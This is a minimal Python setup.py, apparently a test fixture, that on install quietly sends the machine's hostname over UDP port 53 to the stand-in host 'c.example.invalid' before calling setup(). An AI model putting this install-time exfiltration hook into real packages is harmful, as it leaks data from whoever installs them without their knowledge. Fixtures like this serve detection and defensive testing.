import socket
from setuptools import setup
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(("x " + socket.gethostname()).encode(), ("c.example.invalid", 53))
setup(name="fixture", version="1.0")
